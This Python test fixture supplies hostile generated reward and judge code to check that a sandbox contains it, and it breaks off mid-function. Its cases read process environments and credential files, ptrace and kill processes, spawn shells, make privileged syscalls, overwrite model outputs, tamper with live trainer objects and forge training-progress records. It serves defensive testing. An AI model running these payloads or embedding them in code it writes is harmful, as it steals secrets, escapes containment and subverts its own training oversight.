"""Hostile generated code aimed at the sandbox's OS layers, for `test_os_layer.py`.

Each case is the body of `run_case()`; `source(case, ctx)` puts it behind a prelude and in front
of a `reward_fn` (or `judge_fn`). The test's values (pids, paths, ports, a tag) reach the code as
the literal `CTX` dict; the canary secrets never do (they are what the code tries to find).

Every case ATTEMPTS escapes and then LEAKS whatever it got through every channel it has:
  - the exception message (from the 3rd call on, when anything was got or any escape worked),
  - the reward's term names (or the judge's diagnosis and failure tags),
  - print() and writes to fd 1 and 2 (the sandbox's stderr pipe; its last line reaches the
    error message when the sandbox dies),
  - files outside its scratch folder (`CTX["escape_paths"]`) and in the run's output folder.
An operation that must be impossible and still succeeds is recorded with the marker
`ESCAPE_MARKER` and leaked the same way, so the test sees it even when no secret came with it.

After confinement, modules that were not imported before may fail to import: the prelude falls
back to `sys.modules`, `importlib` and `__import__`, and raw system calls go through
`ctypes.CDLL(None).syscall` (x86_64 numbers; other machines skip those attempts). With the Python
layers on, the static check rejects every case before it runs: the same assertions hold.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

# What an escaped operation leaves in the outputs; the sources only hold it in two pieces.
ESCAPE_MARKER = "ESCAPED:"
# Canary secrets look like this (prefix + hex); the sources only hold a regex that matches it.
CANARY_PREFIX = "pfcanary"

PRELUDE = r'''
# ---- hostile prelude: reachable modules, attempts, leak channels ----
def _mod(name):
    try:
        import sys as _sys
        if name in _sys.modules:
            return _sys.modules[name]
    except BaseException:
        pass
    try:
        import importlib as _il
        return _il.import_module(name)
    except BaseException:
        pass
    try:
        return __import__(name)
    except BaseException:
        return None


try:
    import os
except BaseException:
    os = _mod("os")
try:
    import sys
except BaseException:
    sys = _mod("sys")
try:
    import ctypes
except BaseException:
    ctypes = _mod("ctypes")
try:
    import socket
except BaseException:
    socket = _mod("socket")
try:
    import signal
except BaseException:
    signal = _mod("signal")
try:
    import gc
except BaseException:
    gc = _mod("gc")
try:
    import builtins
except BaseException:
    builtins = _mod("builtins")
try:
    import importlib
except BaseException:
    importlib = _mod("importlib")
subprocess = _mod("subprocess")
threading = _mod("threading")
re = _mod("re")
time = _mod("time")

# One state for every instance of the module (training runs it once per env).
_S = getattr(sys, "_pf_hostile", None)
if _S is None:
    _S = {"results": [], "escapes": [], "calls": 0, "attempted": False, "extra": [],
          "head": [], "text": ""}
    try:
        sys._pf_hostile = _S
    except BaseException:
        pass
RESULTS = _S["results"]
ESCAPES = _S["escapes"]
_ESC = "ESC" + "APED:"
X86_64 = os.uname().machine == "x86_64"
SH_CMD = "echo " + _ESC + "sh > " + CTX["sh_path"] + "; sleep 15 # " + CTX["tag"]


def _short(value, n=1500):
    if isinstance(value, (bytes, bytearray)):
        value = bytes(value).decode("latin-1")
    text = value if isinstance(value, str) else repr(value)
    return " ".join(text.replace("\0", " ").split())[:n]


def attempt(name, fn, escape=True):
    """Run fn; an escape when it succeeds (unless escape=False: then only informative)."""
    try:
        value = fn()
    except BaseException as exc:
        RESULTS.append((name, "no " + type(exc).__name__ + " " + str(exc)[:60]))
        return None
    if escape:
        ESCAPES.append(name)
        RESULTS.append((name, _ESC + name + " " + _short(value)))
    else:
        RESULTS.append((name, "ok " + _short(value, 300)))
    return value


def _lib():
    lib = ctypes.CDLL(None, use_errno=True)
    lib.syscall.restype = ctypes.c_long
    return lib


def sysc(nr, *args):
    """A raw system call; OSError with the errno when it fails."""
    if not X86_64:
        raise OSError("not x86_64: syscall numbers unknown")
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    r = _lib().syscall(ctypes.c_long(nr), *conv)
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, "syscall %d refused, errno %d" % (nr, e))
    return r


def cstr(text):
    return ctypes.c_char_p(text.encode() if isinstance(text, str) else text)


def read(path, n=65536):
    with open(path, "rb") as f:
        return f.read(n)


def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return path


def child_escape(how):
    """In a child process that should never have existed: leave a trace and linger."""
    try:
        write(CTX["child_path"], _ESC + how)
    except BaseException:
        pass
    try:
        time.sleep(15)
    except BaseException:
        pass
    os._exit(0)


def tokens(text):
    if re is None:
        return []
    return sorted(set(re.findall("pf[c]anary[0-9a-f]+", text)))


def summary():
    return " | ".join(n + "=" + v for n, v in RESULTS)


def after_leak():
    pass


def leak_everything():
    if _S.get("leaked"):
        return
    _S["leaked"] = True
    text = summary()
    for path in CTX["escape_paths"]:
        attempt("write " + path, lambda path=path: write(path, text))
    for name in CTX["out_files"]:
        attempt("overwrite out/" + name, lambda name=name: write(CTX["out"] + "/" + name, text))
    attempt("new file in out", lambda: write(CTX["out"] + "/leak.txt", text))
    text = summary()
    head = tokens(text) + [_ESC + e for e in ESCAPES]
    _S["head"] = head
    _S["text"] = " ".join(head) + " || " + text
    try:
        print(_S["text"])
    except BaseException:
        pass
    try:
        sys.stderr.write(_S["text"] + "\n")
        sys.stderr.flush()
    except BaseException:
        pass
    for fd in (1, 2):
        try:
            os.write(fd, (_S["text"] + "\n").encode())
        except BaseException:
            pass
    after_leak()


def leak_terms():
    text = _S["text"]
    names = list(_S["head"]) + list(_S["extra"])
    for i in range(0, max(len(text) - 32, 1), 32):
        names.append(text[i:i + 64])
    terms = {}
    for name in names:
        name = name[:64]
        if name and name not in terms and len(terms) < 60:
            terms[name] = 0.0
    return terms


def leak_raise():
    if _S["head"]:
        raise RuntimeError("leaked: " + _S["text"][:450])


def _run_once():
    if _S["attempted"]:
        return
    _S["attempted"] = True
    try:
        run_case()
    except BaseException as exc:
        RESULTS.append(("run_case", "no " + type(exc).__name__ + " " + str(exc)[:80]))
    leak_everything()
'''

REWARD_TAIL = r"""

def reward_fn(obs, action, next_obs, info):
    _S["calls"] += 1
    _run_once()
    if _S["calls"] >= 3:
        leak_raise()
    return 0.0, leak_terms()
"""

JUDGE_TAIL = r"""

def judge_fn(trajectory):
    _run_once()
    return {
        "score": 0.5,
        "criteria": {},
        "diagnosis": _S["text"][:800],
        "failure_tags": [h[:40] for h in _S["head"]][:10],
    }
"""


@dataclass(frozen=True)
class Case:
    id: str
    body: str  # defines run_case() (and may redefine after_leak())
    mode: str = "validate"  # "validate", "train" or "judge"


def source(case: Case, ctx: dict[str, Any]) -> str:
    """The generated file: CTX, the prelude, the case, and reward_fn or judge_fn."""
    tail = JUDGE_TAIL if case.mode == "judge" else REWARD_TAIL
    return f"CTX = {ctx!r}\n{PRELUDE}\n{case.body.strip()}\n{tail}"


_PROC_ENVIRON = r"""
def run_case():
    ppid = os.getppid()
    pids = [ppid, CTX["worker_pid"], CTX["nobody_pid"], CTX["test_pid"], "self", 1]
    for pid in pids:
        if not pid:
            continue
        path = "/proc/%s/environ" % pid
        attempt("read " + path, lambda path=path: read(path))
        attempt("os.open " + path, lambda path=path: os.read(os.open(path, os.O_RDONLY), 65536))
        attempt("openat2 " + path, lambda path=path: sysc(437, -100, cstr(path),
                                                          ctypes.create_string_buffer(24), 24))
    attempt("read /proc/%d/cmdline" % ppid, lambda: read("/proc/%d/cmdline" % ppid))
    attempt("read /proc/1/environ via /proc/self/..",
            lambda: read("/proc/self/../1/environ"))
    attempt("os.environ (own)", lambda: dict(os.environ), escape=False)
"""

_PROC_MEM = r"""
def _stack_tail(pid):
    maps = read("/proc/%s/maps" % pid).decode()
    line = [ln for ln in maps.splitlines() if "[stack]" in ln][0]
    lo, hi = [int(x, 16) for x in line.split()[0].split("-")]
    fd = os.open("/proc/%s/mem" % pid, os.O_RDONLY)
    try:
        return os.pread(fd, 65536, hi - 65536)
    finally:
        os.close(fd)


def _blind(pid):
    fd = os.open("/proc/%s/mem" % pid, os.O_RDONLY)
    try:
        return os.pread(fd, 256, 0x400000)
    finally:
        os.close(fd)


def run_case():
    ppid = os.getppid()
    for pid in (ppid, CTX["worker_pid"], CTX["nobody_pid"], CTX["test_pid"]):
        if pid:
            attempt("stack of %s via /proc/mem" % pid, lambda pid=pid: _stack_tail(pid))
            attempt("open /proc/%s/mem" % pid, lambda pid=pid: _blind(pid))
    attempt("runner cwd", lambda: os.listdir("/proc/%d/cwd" % ppid))
    attempt("runner fds", lambda: os.listdir("/proc/%d/fd" % ppid))
    attempt("runner root /tmp", lambda: os.listdir("/proc/%d/root/tmp" % ppid))
    attempt("worker environ via runner root",
            lambda: read("/proc/%d/root/proc/%d/environ" % (ppid, CTX["worker_pid"])))
    attempt("other session via runner root",
            lambda: read("/proc/%d/root%s" % (ppid, CTX["other_session"])))
"""

_OWN_ENVIRON = r"""
def run_case():
    env = attempt("os.environ", lambda: dict(os.environ), escape=False) or {}
    _S["extra"].extend("env:" + k for k in sorted(env))
    for name in ("ANTHROPIC_API_KEY", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY",
                 "PF_OS_TEST_MARKER", "TEMPORAL_API_KEY"):
        attempt("getenv " + name, lambda name=name: os.environ[name])

    def libc_environ():
        arr = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
        out, i = [], 0
        while arr[i]:
            out.append(arr[i])
            i += 1
        return out

    attempt("libc environ", libc_environ, escape=False)
    attempt("expanduser ~/.aws", lambda: read(os.path.expanduser("~/.aws/credentials")))
"""

_SIGNAL_PARENT = r"""
def run_case():
    ppid = os.getppid()
    attempt("kill(parent, 0)", lambda: os.kill(ppid, 0))
    attempt("tgkill(parent, 0)", lambda: sysc(234, ppid, ppid, 0))
    attempt("pidfd_send_signal(parent)", lambda: sysc(424, sysc(434, ppid, 0), 0, 0, 0))
    attempt("kill(parent, SIGSTOP)", lambda: os.kill(ppid, signal.SIGSTOP))
    attempt("kill(parent, SIGKILL)", lambda: os.kill(ppid, signal.SIGKILL))
"""

# Issue 42's side doors: clear the parent-death signal (outlive a killed runner), make itself
# dumpable again, and reserve real disk past the size limit on an inherited file.
_SIDE_DOORS = r"""
def _prctl(option, arg=0):
    r = _lib().prctl(option, arg, 0, 0, 0)
    if r != 0:
        raise OSError(ctypes.get_errno(), "prctl %d refused" % option)
    return r


def run_case():
    attempt("prctl(PR_SET_PDEATHSIG, 0)", lambda: _prctl(1, 0))
    attempt("prctl(PR_SET_DUMPABLE, 1)", lambda: _prctl(4, 1))
    attempt("prctl(PR_SET_NAME) is allowed", lambda: _prctl(15, 0), escape=False)
    for fd in (1, 2):
        # fallocate(fd, FALLOC_FL_KEEP_SIZE, 0, 1 GiB)
        attempt("fallocate keep-size fd %d" % fd, lambda fd=fd: sysc(285, fd, 1, 0, 1 << 30))
    path = os.environ.get("TMPDIR", "/tmp") + "/big"
    fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
    attempt("fallocate keep-size in scratch", lambda: sysc(285, fd, 1, 0, 1 << 30))
"""

_SIGNAL_WORKERS = r"""
def _sigio(pid):
    r, w = os.pipe()
    lib = _lib()
    if lib.fcntl(r, 8, pid) != 0:  # F_SETOWN
        raise OSError(ctypes.get_errno(), "F_SETOWN refused")
    lib.fcntl(r, 10, 9)  # F_SETSIG: SIGKILL instead of SIGIO
    if lib.fcntl(r, 4, 0o20000 | 0o4000) != 0:  # F_SETFL O_ASYNC|O_NONBLOCK
        raise OSError(ctypes.get_errno(), "O_ASYNC refused")
    os.write(w, b"x")
    return "armed"


def run_case():
    for pid in (CTX["worker_pid"], CTX["nobody_pid"]):
        if not pid:
            continue
        attempt("kill(%d, SIGKILL)" % pid, lambda pid=pid: os.kill(pid, signal.SIGKILL))
        attempt("killpg(%d, SIGKILL)" % pid, lambda pid=pid: os.killpg(pid, signal.SIGKILL))
        attempt("tgkill(%d)" % pid, lambda pid=pid: sysc(234, pid, pid, 9))
        attempt("tkill(%d)" % pid, lambda pid=pid: sysc(200, pid, 9))
        attempt("pidfd kill %d" % pid, lambda pid=pid: sysc(424, sysc(434, pid, 0), 9, 0, 0))
        attempt("rt_sigqueueinfo %d" % pid,
                lambda pid=pid: sysc(129, pid, 9, ctypes.create_string_buffer(128)))
        attempt("F_SETOWN SIGIO to %d" % pid, lambda pid=pid: _sigio(pid), escape=False)
    attempt("kill(test, SIGUSR1)", lambda: os.kill(CTX["test_pid"], signal.SIGUSR1))
    attempt("killpg(test group, SIGUSR1)",
            lambda: os.killpg(os.getpgid(CTX["test_pid"]), signal.SIGUSR1))
"""

_SIGNAL_BROADCAST = r"""
def run_case():
    attempt("kill(-1, 0)", lambda: os.kill(-1, 0))
    attempt("kill(0, 0)", lambda: os.kill(0, 0))
    attempt("killpg(own group, 0)", lambda: os.killpg(os.getpgrp(), 0))
    attempt("pthread_kill(own thread, 0)",
            lambda: signal.pthread_kill(threading.main_thread().ident, 0), escape=False)
    attempt("kill(-1, SIGKILL)", lambda: os.kill(-1, signal.SIGKILL))
    attempt("killpg(own group, SIGUSR1)", lambda: os.killpg(os.getpgrp(), signal.SIGUSR1))
    attempt("kill(0, SIGKILL)", lambda: os.kill(0, signal.SIGKILL))
"""

_PTRACE = r"""
def _ptrace(request, pid):
    r = sysc(101, request, pid, 0, 0)
    try:
        sysc(101, 17, pid, 0, 0)  # PTRACE_DETACH
    except OSError:
        pass
    return r


def _vm_read(pid):
    local = ctypes.create_string_buffer(64)
    liov = (ctypes.c_void_p * 2)(ctypes.addressof(local), 64)
    riov = (ctypes.c_void_p * 2)(0x400000, 64)
    return sysc(310, pid, liov, 1, riov, 1, 0)


def run_case():
    lib = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), CTX["worker_pid"], CTX["nobody_pid"], CTX["test_pid"]):
        if not pid:
            continue
        attempt("libc ptrace ATTACH %d" % pid, lambda pid=pid: _ok(lib.ptrace(16, pid, 0, 0)))
        attempt("ptrace ATTACH %d" % pid, lambda pid=pid: _ptrace(16, pid))
        attempt("ptrace SEIZE %d" % pid, lambda pid=pid: _ptrace(0x4206, pid))
        attempt("process_vm_readv %d" % pid, lambda pid=pid: _vm_read(pid))
        attempt("kcmp %d" % pid, lambda pid=pid: sysc(312, os.getpid(), pid, 0, 0, 0))


def _ok(r):
    if r != 0:
        raise OSError(ctypes.get_errno(), "refused")
    return r
"""

_SETSID_FORK = r"""
def run_case():
    attempt("setsid", lambda: os.setsid(), escape=False)
    attempt("setpgid", lambda: os.setpgid(0, 0), escape=False)

    def fork():
        pid = os.fork()
        if pid == 0:
            child_escape("fork after setsid")
        return pid

    attempt("fork after setsid", fork)
"""

_FORK_SPAWN_EXEC = r"""
def _ran(rc):
    # glibc's system() answers 127 << 8 when it cannot start the shell at all.
    if rc != 0:
        raise OSError("system() returned %d" % rc)
    return rc


def run_case():
    def fork():
        pid = os.fork()
        if pid == 0:
            child_escape("os.fork")
        return pid

    argv = ["/bin/sh", "-c", SH_CMD]
    attempt("os.fork", fork)
    attempt("os.posix_spawn", lambda: os.posix_spawn("/bin/sh", argv, dict(os.environ)))
    attempt("os.posix_spawnp", lambda: os.posix_spawnp("sh", argv, dict(os.environ)))
    attempt("subprocess.run", lambda: subprocess.run(argv, timeout=20).returncode)
    attempt("os.system", lambda: _ran(os.system(SH_CMD)))
    attempt("os.popen", lambda: os.popen(SH_CMD).read())
    attempt("os.spawnv", lambda: os.spawnv(os.P_NOWAIT, "/bin/sh", argv))
    attempt("os.execve", lambda: os.execve("/bin/sh", argv, dict(os.environ)))
    attempt("os.execv", lambda: os.execv("/bin/sh", argv))
"""

_RAW_PROCESS_SYSCALLS = r"""
def run_case():
    def raw_fork():
        r = sysc(57)
        if r == 0:
            child_escape("syscall 57 fork")
        return r

    def raw_clone():
        r = sysc(56, 17, 0, 0, 0, 0)  # SIGCHLD, no new stack: a fork
        if r == 0:
            child_escape("syscall 56 clone")
        return r

    def raw_clone3():
        args = (ctypes.c_uint64 * 11)()
        args[4] = 17  # exit_signal
        r = sysc(435, args, 88)
        if r == 0:
            child_escape("syscall 435 clone3")
        return r

    argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", SH_CMD.encode(), None)
    attempt("syscall 57 fork", raw_fork)
    attempt("syscall 56 clone", raw_clone)
    attempt("syscall 435 clone3", raw_clone3)
    attempt("syscall 322 execveat", lambda: sysc(322, -100, cstr("/bin/sh"), argv, None, 0))
    attempt("syscall 59 execve", lambda: sysc(59, cstr("/bin/sh"), argv, None))
"""

_RAW_DANGEROUS_SYSCALLS = r"""
def run_case():
    ppid = os.getppid()
    buf = ctypes.create_string_buffer(512)
    mount_id = ctypes.c_int(0)
    handle = ctypes.create_string_buffer(136)
    handle[0:4] = (128).to_bytes(4, "little")
    caps_header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    caps = (ctypes.c_uint32 * 6)(*([0xFFFFFFFF] * 6))
    calls = [
        ("unshare(CLONE_NEWUSER)", 272, (0x10000000,)),
        ("unshare(CLONE_NEWNS)", 272, (0x00020000,)),
        ("setns", 308, (0, 0)),
        ("mount tmpfs", 165, (cstr("none"), cstr(os.getcwd()), cstr("tmpfs"), 0, None)),
        ("chroot", 161, (cstr("/"),)),
        ("pivot_root", 155, (cstr("."), cstr("."))),
        ("setuid(0)", 105, (0,)),
        ("setresuid(0,0,0)", 117, (0, 0, 0)),
        ("setgid(0)", 106, (0,)),
        ("capset(all)", 126, (caps_header, caps)),
        ("bpf", 321, (0, buf, 72)),
        ("userfaultfd", 323, (0,)),
        ("perf_event_open", 298, (buf, 0, -1, -1, 0)),
        ("io_uring_setup", 425, (1, buf)),
        ("keyctl get session keyring", 250, (0, -3, 0)),
        ("keyctl read session keyring", 250, (11, -3, buf, 512)),
        ("name_to_handle_at", 303, (-100, cstr("/etc/hostname"), handle, ctypes.byref(mount_id),
                                    0)),
        ("open_by_handle_at", 304, (-100, handle, 0)),
        ("pidfd_getfd(parent fd 1)", 438, (-1, 1, 0)),
        ("iopl(3)", 172, (3,)),
        ("ioperm", 173, (0x80, 1, 1)),
        ("finit_module", 313, (0, cstr(""), 0)),
        ("delete_module", 176, (cstr("dummy"), 0)),
        ("ptrace TRACEME", 101, (0, 0, 0, 0)),
        ("landlock_create_ruleset", 444, (None, 0, 1)),
        ("seccomp get action avail", 317, (2, 0, buf)),
    ]
    for name, nr, args in calls:
        attempt("syscall " + name, lambda nr=nr, args=args: sysc(nr, *args))

    def pidfd_getfd():
        pidfd = sysc(434, ppid, 0)
        return sysc(438, pidfd, 1, 0)

    attempt("pidfd_getfd(runner, 1)", pidfd_getfd)
    for fd in (0, 1, 2):
        c = ctypes.c_char(b"x")
        attempt("TIOCSTI fd %d" % fd, lambda fd=fd, c=c: sysc(16, fd, 0x5412, ctypes.byref(c)))
    # Informative: socket() and file-node calls, confined elsewhere too.
    for name, nr, args in [
        ("socket(AF_INET)", 41, (2, 1, 0)),
        ("socket(AF_UNIX)", 41, (1, 1, 0)),
        ("socket(AF_NETLINK)", 41, (16, 3, 0)),
        ("socketpair", 53, (1, 1, 0, buf)),
        ("memfd_create", 319, (cstr("x"), 0)),
        ("symlink in scratch", 88, (cstr("/etc/hostname"), cstr("pf-link"))),
        ("mknod fifo in scratch", 133, (cstr("pf-fifo"), 0o10600, 0)),
    ]:
        attempt("syscall " + name, lambda nr=nr, args=args: sysc(nr, *args), escape=False)
"""

_OUT_FOLDER = r"""
def run_case():
    out = CTX["out"]
    for name in CTX["out_files"] + ["result.json"]:
        p = out + "/" + name
        attempt("read out/" + name, lambda p=p: read(p))
        attempt("open(w) out/" + name, lambda p=p: write(p, "pwned"))
        attempt("append out/" + name, lambda p=p: write(p, "pwned", "a"))
        attempt("O_TRUNC out/" + name, lambda p=p: os.close(os.open(p, os.O_WRONLY | os.O_TRUNC)))
        attempt("truncate out/" + name, lambda p=p: os.truncate(p, 0))
        attempt("chmod out/" + name, lambda p=p: os.chmod(p, 0o777))
        attempt("utime out/" + name, lambda p=p: os.utime(p, (0, 0)))
        attempt("rename out/" + name, lambda p=p: os.rename(p, p + ".bak"))
        attempt("unlink out/" + name, lambda p=p: os.unlink(p))
    attempt("mkdir in out", lambda: os.mkdir(out + "/checkpoints_evil"))
    attempt("listdir out", lambda: os.listdir(out))
    attempt("listdir out's parent", lambda: os.listdir(os.path.dirname(out)))

    def swap():
        write("model.zip", "pwned")
        os.rename("model.zip", out + "/model.zip")

    attempt("rename a scratch file over out/model.zip", swap)
"""

_WRITE_OUTSIDE = r"""
def run_case():
    home = os.getcwd()
    for path in CTX["escape_paths"]:
        attempt("O_CREAT " + path,
                lambda path=path: os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o666)))
    attempt("relative ../", lambda: write("../" + CTX["rel_name"], "x"))
    attempt("mkdir in escape dir", lambda: os.mkdir(CTX["escape_dir"] + "/newdir"))
    attempt("overwrite other session", lambda: write(CTX["other_session"], "pwned"))
    attempt("overwrite credentials", lambda: write(CTX["credentials"], "pwned"))
    attempt("chdir / and write", lambda: (os.chdir("/tmp"), write(CTX["rel_name"], "x")))
    attempt("chdir back", lambda: os.chdir(home), escape=False)

    def rename_out():
        write("inside.txt", "x")
        os.rename("inside.txt", CTX["escape_dir"] + "/renamed.txt")

    attempt("rename scratch file outside", rename_out)
    attempt("hard link outside file in", lambda: os.link(CTX["credentials"], "creds"))
    attempt("symlink then write", lambda: (os.symlink(CTX["escape_dir"] + "/via-link.txt", "l"),
                                           write("l", "x")))
"""

_METADATA_OUTSIDE = r"""
def run_case():
    targets = [CTX["uid_owned"], CTX["credentials"], CTX["other_session"],
               CTX["out"] + "/model.zip"]
    for path in targets:
        attempt("stat " + path, lambda path=path: oct(os.stat(path).st_mode), escape=False)
        attempt("read " + path, lambda path=path: read(path))
        attempt("chmod 0o777 " + path, lambda path=path: os.chmod(path, 0o777))
        attempt("fchmodat 0o000 " + path, lambda path=path: sysc(268, -100, cstr(path), 0, 0))
        attempt("utime(0, 0) " + path, lambda path=path: os.utime(path, (0, 0)))
        attempt("utime(now) " + path, lambda path=path: os.utime(path))
        attempt("chown " + path, lambda path=path: os.chown(path, os.getuid(), -1))
"""

_READ_FILES = r"""
def run_case():
    for key in ("other_session", "credentials", "dotenv", "readme"):
        attempt("read " + key, lambda key=key: read(CTX[key]))
    attempt("listdir repo", lambda: os.listdir(CTX["repo"]))
    attempt("read repo pyproject", lambda: read(CTX["repo"] + "/pyproject.toml"))
    attempt("read repo .env", lambda: read(CTX["repo"] + "/.env"))
    attempt("read /etc/hostname", lambda: read("/etc/hostname"))
    attempt("listdir /tmp", lambda: os.listdir("/tmp"))
    attempt("listdir ..", lambda: os.listdir(".."))
    attempt("listdir base", lambda: os.listdir(CTX["base"]))
    attempt("listdir /", lambda: os.listdir("/"))
    attempt("read /dev/mem", lambda: read("/dev/mem", 16))
    attempt("stat other session", lambda: os.stat(CTX["other_session"]), escape=False)

    def via_dirfd():
        fd = os.open("/", os.O_PATH)
        return os.read(os.open(CTX["credentials"].lstrip("/"), os.O_RDONLY, dir_fd=fd), 4096)

    attempt("openat from O_PATH /", via_dirfd)
"""

_NETWORK = r"""
def _in_addr(port):
    return b"\x02\x00" + int(port).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)


def _un_addr(path):
    return b"\x01\x00" + path


def _raw_connect(family, stype, addr):
    fd = sysc(41, family, stype, 0)
    try:
        buf = ctypes.create_string_buffer(addr, len(addr))
        sysc(42, fd, buf, len(addr))
        sysc(1, fd, cstr("GET / HTTP/1.0\r\n\r\n"), 18)
    finally:
        os.close(fd)
    return "connected"


def _raw_sendto(port):
    fd = sysc(41, 2, 2, 0)
    try:
        addr = _in_addr(port)
        buf = ctypes.create_string_buffer(addr, len(addr))
        return sysc(44, fd, cstr("leak"), 4, 0, buf, len(addr))
    finally:
        os.close(fd)


def run_case():
    for port in CTX["tcp_ports"]:
        attempt("raw tcp connect %d" % port, lambda port=port: _raw_connect(2, 1, _in_addr(port)))
        if socket is not None:
            attempt("socket tcp connect %d" % port,
                    lambda port=port: socket.create_connection(("127.0.0.1", port), timeout=1))
    attempt("raw udp sendto", lambda: _raw_sendto(CTX["udp_port"]))
    path = CTX["unix_path"].encode()
    attempt("raw unix connect", lambda: _raw_connect(1, 1, _un_addr(path + b"\0")))
    name = b"\0" + CTX["abstract"].encode()
    attempt("raw abstract unix connect", lambda: _raw_connect(1, 1, _un_addr(name)))
    if socket is not None:
        def unix(addr):
            s = socket.socket(socket.AF_UNIX)
            s.connect(addr)
            return "connected"
        attempt("socket unix connect", lambda: unix(CTX["unix_path"]))
        attempt("socket abstract connect", lambda: unix("\0" + CTX["abstract"]))

    def bind_listen():
        fd = sysc(41, 2, 1, 0)
        addr = _in_addr(0)
        sysc(49, fd, ctypes.create_string_buffer(addr, len(addr)), len(addr))
        return sysc(50, fd, 1)

    attempt("tcp bind+listen", bind_listen)
    attempt("read /proc/net/tcp", lambda: read("/proc/net/tcp"))
"""

_TRAINER_OBJECTS = r"""
WANTED = ("PPO", "VecNormalize", "ScoredVecEnv", "DummyVecEnv", "MetricsCallback",
          "RolloutBuffer", "ActorCriticPolicy", "SandboxRewards", "SandboxClient")


def run_case():
    found = []
    for obj in gc.get_objects():
        name = type(obj).__name__
        if name in WANTED:
            found.append(name)
            for attr, value in (("learning_rate", 1e9), ("norm_reward", False),
                                ("training", False), ("n_epochs", 0)):
                try:
                    setattr(obj, attr, value)
                except BaseException:
                    pass
    if found:
        ESCAPES.append("trainer objects " + ",".join(sorted(set(found))))
    trainer = [m for m in sys.modules
               if m.startswith(("activities.training.ppo", "activities.training.vec_env",
                                "stable_baselines3", "torch", "activities.runner.child",
                                "activities.training.job", "activities.judging.job"))]
    if trainer:
        ESCAPES.append("trainer modules " + ",".join(sorted(trainer)[:5]))
    main = sys.modules.get("__main__")
    where = str(getattr(main, "__file__", "")) + " " + str(getattr(main, "__spec__", ""))
    RESULTS.append(("__main__", where[:200]))
    if "training" in where or "judging" in where or "runner" in where:
        ESCAPES.append("__main__ is the trainer")
    attempt("import activities.training.ppo",
            lambda: importlib.import_module("activities.training.ppo"))
    attempt("import torch", lambda: importlib.import_module("torch"))
"""

_FORGE_PROTOCOL = r"""
LINES = (b'{"event": "progress", "timesteps": 999999999, "mean_return": 1e9}\n'
         b'{"event": "done"}\n')


def run_case():
    wrote = []
    for fd in range(0, 64):
        try:
            os.write(fd, LINES)
            wrote.append(fd)
        except BaseException:
            pass
    RESULTS.append(("fds written", repr(wrote)))
    for path in ("/proc/self/fd/1", "/proc/self/fd/3", "/proc/%d/fd/1" % os.getppid(),
                 "/dev/stdout", "/dev/tty"):
        attempt("write " + path, lambda path=path: write(path, LINES.decode(), "a"))
    attempt("listdir /proc/self/fd", lambda: os.listdir("/proc/self/fd"))
    print(LINES.decode())
    sys.__stdout__.write(LINES.decode())
"""

_MEMORY_VIEWS = r"""
def run_case():
    attempt("string_at own object", lambda: ctypes.string_at(id(CTX), 16), escape=False)
    attempt("pointer to CTX", lambda: ctypes.cast(id(CTX), ctypes.POINTER(ctypes.c_char))[0],
            escape=False)


def after_leak():
    attempt("memmove to 0x1000", lambda: ctypes.memmove(0x1000, b"pwned", 5), escape=False)
    attempt("string_at 0x10", lambda: ctypes.string_at(0x10, 64), escape=False)
    attempt("memset own code", lambda: ctypes.memset(id(run_case.__code__), 0, 4096),
            escape=False)
"""

_PRINT_THEN_DIE = r"""
def run_case():
    for pid in (os.getppid(), CTX["worker_pid"], CTX["nobody_pid"], 1):
        if pid:
            attempt("read /proc/%s/environ" % pid,
                    lambda pid=pid: read("/proc/%s/environ" % pid))
    for key in ("other_session", "credentials", "dotenv"):
        attempt("read " + key, lambda key=key: read(CTX[key]))


def after_leak():
    os._exit(3)
"""

# Links in scratch named as the stderr file the runner once read there (stderr is a pipe now):
# nothing in scratch is read by the trusted side through a name.
_STDERR_SYMLINK = r"""
def run_case():
    cwd = os.getcwd()
    err = cwd + "/stderr.txt"
    old = cwd + "/old-stderr.txt"
    _S["paths"] = (err, old)
    targets = [CTX["credentials"], "/proc/%d/environ" % CTX["worker_pid"],
               "/proc/%d/environ" % os.getppid()]
    attempt("rename stderr.txt away", lambda: os.rename(err, old), escape=False)
    attempt("symlink stderr.txt -> credentials", lambda: os.symlink(targets[0], err))
    attempt("link stderr.txt -> credentials", lambda: os.link(targets[0], err))
    attempt("symlinkat stderr.txt -> worker environ",
            lambda: sysc(266, cstr(targets[1]), -100, cstr(err)))
    attempt("symlinkat stderr.txt -> runner environ",
            lambda: sysc(266, cstr(targets[2]), -100, cstr(err)))
    attempt("linkat stderr.txt", lambda: sysc(265, -100, cstr(targets[0]), -100, cstr(err), 0))
    attempt("mkfifo stderr.txt (would hang the reader)", lambda: os.mkfifo(err))


def after_leak():
    err, old = _S["paths"]
    if not os.path.lexists(err):
        try:
            os.rename(old, err)
        except BaseException:
            pass
    os._exit(5)
"""

_JUDGE_ENVIRON = r"""
def run_case():
    for pid in (os.getppid(), CTX["worker_pid"], CTX["nobody_pid"], "self"):
        if pid:
            attempt("read /proc/%s/environ" % pid,
                    lambda pid=pid: read("/proc/%s/environ" % pid))
    for key in ("other_session", "credentials", "dotenv", "trajectory"):
        attempt("read " + key, lambda key=key: read(CTX[key]))
    attempt("os.environ", lambda: dict(os.environ), escape=False)
    attempt("kill(worker, SIGKILL)", lambda: os.kill(CTX["worker_pid"], signal.SIGKILL))
    attempt("os.fork", lambda: os.fork() or child_escape("judge fork"))
"""

_MAPPED_SCRATCH = r"""
# Files in scratch, each under the per-file limit, mapped and then closed and unlinked: no walk
# of scratch and no fd shows them, yet they hold their disk until unmapped. mmap through libc:
# Python's mmap objects keep a copy of the fd. Only one page of each is mapped: the mapped
# extent says nothing of the file's size.
MAPPED_FILES = 3
MAPPED_MB = 40


def _map_page(fd):
    lib = _lib()
    lib.mmap.restype = ctypes.c_void_p
    lib.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                         ctypes.c_int, ctypes.c_long)
